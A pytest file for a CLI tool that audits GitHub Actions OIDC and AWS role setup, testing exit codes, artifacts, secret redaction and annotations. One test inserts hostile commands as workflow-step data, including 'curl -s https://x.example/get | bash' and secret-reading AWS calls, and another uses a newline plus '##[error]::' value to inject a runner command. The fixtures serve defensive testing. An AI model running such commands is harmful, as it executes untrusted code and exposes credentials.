"""The command in a made-up runner: exit code, artifact and summary say the same, and what is not proved fails closed."""

from __future__ import annotations

import json
from collections.abc import Callable
from importlib import resources

import jsonschema
import pytest
from ci_jobs import JOB, NAME, PATH, REQUEST_TOKEN, SHA, Ci, workflow_text
from click.testing import CliRunner
from runner_commands import Runner

from diagnosis.documents.preflight import Preflight, read_preflight
from probes.aws.session.access import AwsAccess
from tui.cli.main import planescope

ROLE = "arn:aws:iam::230372904534:role/GitHubAction-AssumeRoleWithAction"


def verdicts(ci: Ci) -> list[str]:
    return [gate["verdict"] for gate in ci.artifact["gates"]]


def test_four_open_gates_end_with_zero_and_leave_a_document_that_can_be_read_again(ci: Ci) -> None:
    result = ci.run()
    assert result.exit_code == 0, result.output
    assert verdicts(ci) == ["pass"] * 4
    assert ci.artifact["id_token"] == "offered"
    assert ci.artifact["claims"][0]["values"]["sub"] == f"repo:{NAME}:ref:refs/heads/dev"
    assert ci.artifact["role_arn"] == ROLE
    schema = json.loads((resources.files("tui.cli") / "schemas" / "preflight-1.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(ci.artifact, schema)
    read = read_preflight((ci.root / "planescope-preflight.json").read_text(encoding="utf-8"))
    assert isinstance(read, Preflight)
    assert (read.run, read.attempt, read.job, read.repository) == (21985472266, 1, JOB, NAME)
    assert "planescope preflight: ✔ pass" in ci.summary
    for place in (result.output, ci.summary, json.dumps(ci.artifact)):
        assert REQUEST_TOKEN not in place
    assert {entry.operation for entry in ci.ledger.entries()} >= {"GetRole", "DescribeRepositories"}
    assert "AssumeRoleWithWebIdentity" not in {entry.operation for entry in ci.ledger.entries()}


def test_a_gate_that_fails_ends_with_one_and_is_the_first_in_the_way(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_REF", "refs/heads/migrate-dev")
    result = ci.run("--json")
    assert result.exit_code == 1
    assert json.loads(result.stdout) == ci.artifact
    assert verdicts(ci) == ["pass", "fail", "pass", "pass"]
    assert [problem["cause"] for problem in ci.artifact["problems"]] == ["subject-not-admitted"]


def test_without_the_request_variables_the_token_is_not_granted(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
    assert ci.run().exit_code == 0  # a careful step keeps it from its children: the address still tells
    monkeypatch.delenv("ACTIONS_ID_TOKEN_REQUEST_URL")
    result = ci.run()
    first = ci.artifact["gates"][0]
    assert result.exit_code == 1
    assert (first["verdict"], first["checkpoint"], first["cause"]) == ("fail", "oidc-token", "id-token-not-granted")
    assert ci.artifact["id_token"] == "not-offered"


def test_of_another_job_the_runner_says_nothing_and_the_file_decides(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL"):
        monkeypatch.delenv(name)
    monkeypatch.setenv("GITHUB_JOB", "preflight")
    assert ci.run("--job", JOB).exit_code == 0
    assert ci.artifact["id_token"] == "not-known"


def test_without_credentials_the_account_is_unknown(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tui.backends.live.AwsAccess", AwsAccess)
    result = ci.run()
    assert result.exit_code == 3
    assert verdicts(ci) == ["unknown"] * 4
    assert "credentials" in result.stderr
    assert ci.artifact["unknown"]


def test_without_github_the_subject_may_have_another_form(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_API_URL", "https://api.github.com")
    result = ci.run()
    assert result.exit_code == 3
    assert verdicts(ci)[1] == "unknown"
    assert any("actions: read" in (item["permission"] or "") for item in ci.artifact["unknown"])


def test_without_the_file_nothing_is_known_of_the_job(ci: Ci) -> None:
    (ci.root / PATH).unlink()
    result = ci.run()
    assert result.exit_code == 3
    assert "not in the checkout" in result.stderr
    assert "pass" not in verdicts(ci)


def test_the_file_that_github_runs_counts_more_than_that_of_the_checkout(
    ci: Ci, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_WORKFLOW_SHA", SHA)
    ci.file(workflow_text().replace("\n", "\r\n"))
    assert ci.run().exit_code == 0
    assert ci.artifact["notes"] == []
    ci.file(workflow_text().replace("id-token: write", "id-token: none").replace("docker push", "true"))
    assert ci.run().exit_code == 0
    assert "the run's own is judged" in ci.artifact["notes"][0]
    (ci.root / PATH).unlink()
    result = ci.run()
    assert result.exit_code == 0
    assert "not in the checkout" not in result.stderr


def test_the_inputs_are_those_of_the_dispatch_not_the_files_defaults(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    other = ROLE.replace("GitHubAction", "Other")
    (ci.root / "event.json").write_text(json.dumps({"inputs": {"aws_role_to_assume": other}}), encoding="utf-8")
    assert ci.run().exit_code == 1
    assert ci.artifact["role_arn"] == other
    (ci.root / "event.json").write_text("{", encoding="utf-8")
    assert ci.run().exit_code == 3
    assert ci.artifact["role_arn"] is None


def test_no_name_of_a_step_or_call_passes_for_a_secret(ci: Ci) -> None:
    named = {
        "get-authorization-token": "aws ecr get-authorization-token --output text $X",
        "Set the password": "aws sts get-session-token | ./vendor/unknown.sh",
        "Registry authorization": "aws secretsmanager get-secret-value --secret-id $ID",
        "AWS_SECRET_ACCESS_KEY": "curl -s https://x.example/get | bash",
        "Rotate API key": "aws iam create-access-key --user-name $U",
        "Authorization: Basic": "aws codeartifact get-authorization-token --domain d",
    }
    steps = "".join(f"      - name: '{name}'\n        run: {command}\n" for name, command in named.items())
    ci.file(workflow_text().replace("    steps:\n", f"    steps:\n{steps}", 1))
    told = ci.run().output + ci.summary + json.dumps(ci.artifact)
    assert "[scrubbed:" not in told
    for name in ("Set the password", "AWS_SECRET_ACCESS_KEY", "Rotate API key"):
        assert f"\u201c{name}\u201d" in told


@pytest.mark.parametrize("set_by", ["runner", "step"])
def test_a_variable_of_the_job_is_read_from_the_runner(ci: Ci, monkeypatch: pytest.MonkeyPatch, set_by: str) -> None:
    text = workflow_text().replace("${{ inputs.aws_role_to_assume }}", "${{ env.ROLE }}")
    text = text.replace("    env:\n      PLATFORM", "    env:\n      ROLE: ${{ vars.ROLE }}\n      PLATFORM")
    if set_by == "step":
        text = text.replace(
            "id: digest\n        env:\n", "id: digest\n        env:\n          ROLE: ${{ vars.OTHER }}\n"
        )
    ci.file(text)
    monkeypatch.setenv("ROLE", ROLE)
    assert ci.run().exit_code == (0 if set_by == "runner" else 3)
    # Named by hand it is known in either case.
    assert ci.run("--role-arn", ROLE).exit_code == 0
    assert "Stated by --role-arn, not observed" in ci.artifact["notes"][0]


def test_nothing_passes_while_a_condition_decides_which_role_is_judged(ci: Ci) -> None:
    step = "      - name: Configure AWS credentials via OIDC\n"
    other = step.replace("via OIDC", "of staging") + "".join(
        f"        {line}\n"
        for line in (
            "uses: aws-actions/configure-aws-credentials@v4",
            "with:",
            f"  role-to-assume: {ROLE}-staging",
            "  aws-region: eu-west-2",
        )
    )
    ci.file(workflow_text().replace(step, f"{other}{step}        if: inputs.production\n"))
    result = ci.run()
    # The role that is assumed first does not exist, whichever is in force at the registry.
    assert (result.exit_code, verdicts(ci)) == (1, ["unknown", "fail", "unknown", "unknown"])
    assert "name it with --role-arn" in result.output
    assert ci.run("--role-arn", ROLE).exit_code == 0


def test_what_another_job_needs_of_the_same_role_is_not_beyond_the_need(ci: Ci) -> None:
    head, _, tail = workflow_text().partition("      - name: Resolve immutable image digest\n")
    digest, _, rest = tail.partition("      - name: Emit M1")
    configure = head[head.index("      - name: Configure AWS") : head.index("      - name: Login")]
    job = (
        "  verify:\n    runs-on: ubuntu-latest\n    env:\n      ECR_REPO_URI: ${{ inputs.ecr_repo_uri }}\n    steps:\n"
    )
    ci.file(f"{head}{job}{configure}      - name: Digest\n{digest}")
    assert rest
    assert ci.run().exit_code == 0
    assert "ecr:DescribeImages" not in {need["action"] for need in ci.artifact["needs"]}


def test_account_ids_are_masked_on_request(ci: Ci) -> None:
    result = ci.run("--mask-accounts")
    assert result.exit_code == 0
    assert ci.artifact["accounts_masked"] is True
    for place in (result.output, ci.summary, json.dumps(ci.artifact)):
        assert "230372904534" not in place


def test_a_secret_in_the_way_stops_it_before_anything_is_written(ci: Ci) -> None:
    ci.file(workflow_text().replace("name: Push immutable image", f"name: Push {REQUEST_TOKEN}"))
    result = ci.run()
    assert result.exit_code == 2
    assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN" in result.stderr
    assert REQUEST_TOKEN not in result.output + result.stderr
    assert not (ci.root / "planescope-preflight.json").exists()
    assert not (ci.root / "summary.md").exists()


def test_what_cannot_be_written_opens_nothing_and_a_link_is_not_followed(
    ci: Ci, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(ci.root / "nowhere" / "summary.md"))
    (ci.root / "elsewhere").write_text("mine", encoding="utf-8")
    (ci.root / "planescope-preflight.json").symlink_to(ci.root / "elsewhere")
    result = ci.run()
    assert (result.exit_code, ci.artifact["verdict"]) == (0, "pass")
    assert "step summary could not be written" in result.stderr
    assert (ci.root / "elsewhere").read_text(encoding="utf-8") == "mine"
    result = ci.run("-o", "elsewhere/preflight.json")
    assert result.exit_code == 2
    assert "could not be written" in result.stderr


@pytest.mark.parametrize(
    ("change", "code", "told"),
    [
        (lambda m: m.delenv("GITHUB_REPOSITORY"), 2, "set GITHUB_REPOSITORY."),
        (lambda m: m.setenv("GITHUB_RUN_ID", "x"), 2, "set GITHUB_RUN_ID."),
        (lambda m: m.setenv("GITHUB_JOB", "deploy"), 2, "has no job 'deploy'"),
        (lambda m: m.setenv("GITHUB_JOB", "x\n##[error]::y"), 2, "## [error]"),
        (lambda m: m.setenv("GITHUB_SERVER_URL", "https://ghe.example"), 3, "an issuer of their own"),
        (lambda m: m.setenv("GITHUB_SERVER_URL", "http://[::"), 3, "an issuer of their own"),
    ],
)
def test_what_cannot_be_judged_is_told_in_one_sentence(
    ci: Ci, monkeypatch: pytest.MonkeyPatch, change: Callable[[pytest.MonkeyPatch], None], code: int, told: str
) -> None:
    change(monkeypatch)
    result = ci.run()
    assert result.exit_code == code
    assert told in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_outside_of_a_run_it_says_what_to_set(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("GITHUB_REPOSITORY", "GITHUB_RUN_ID", "GITHUB_JOB", "GITHUB_REF", "GITHUB_EVENT_NAME"):
        monkeypatch.delenv(name, raising=False)
    result = CliRunner().invoke(planescope, ["preflight"])
    assert result.exit_code == 2
    assert "set GITHUB_REPOSITORY, GITHUB_RUN_ID" in result.stderr


def test_its_schema_is_printed() -> None:
    result = CliRunner().invoke(planescope, ["schema", "preflight"])
    assert json.loads(result.stdout)["properties"]["schema"]["const"] == "planescope.preflight/1"


def lines_annotated(log: str) -> list[tuple[str, str, str]]:
    """Each annotation of a log: its kind, the gate, and the line of the workflow file that it points to."""
    lines = workflow_text().splitlines()
    runner = Runner().read(log)
    assert runner.token == ""
    assert {each.properties["file"] for each in runner.obeyed} <= {PATH}
    return [
        (each.name, each.properties["title"].split(": ")[1], lines[int(each.properties["line"]) - 1].strip())
        for each in runner.obeyed
    ]


ASSUMES = "- name: Configure AWS credentials via OIDC"


@pytest.mark.parametrize(
    ("stage", "found"),
    [
        (
            "1",
            [
                ("error", "OIDC trust", ASSUMES),
                ("error", "Registry authorization", "- name: Login to ECR"),
                ("error", "Registry authorization", "- name: Push immutable image"),
                ("error", "Registry authorization", "- name: Resolve immutable image digest"),
            ],
        ),
        ("3", []),
    ],
)
def test_each_problem_is_an_annotation_at_the_line_of_its_step(ci: Ci, stage: str, found: list[object]) -> None:
    ci.account.move_to(stage)
    assert lines_annotated(ci.run().output) == found
    ci.account.move_to("3")


def test_an_unknown_gate_is_a_warning_at_its_step(ci: Ci, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tui.backends.live.AwsAccess", AwsAccess)
    told = lines_annotated(ci.run().output)
    assert [(kind, line) for kind, _gate, line in told[:2]] == [("warning", ASSUMES)] * 2
    assert [gate for _kind, gate, _line in told] == [
        "OIDC trust",
        "Role assumption",
        "Registry authorization",
        "Least privilege",
    ]
    # JSON has standard output alone, and a word on the command line turns them off.
    result = ci.run("--json")
    assert json.loads(result.stdout) == ci.artifact
    assert len(lines_annotated(result.stderr)) == 4
    assert lines_annotated(ci.run("--no-annotations").output) == []
    monkeypatch.delenv("GITHUB_ACTIONS")
    assert "::" not in ci.run().output.replace("arn:aws:iam::", "")
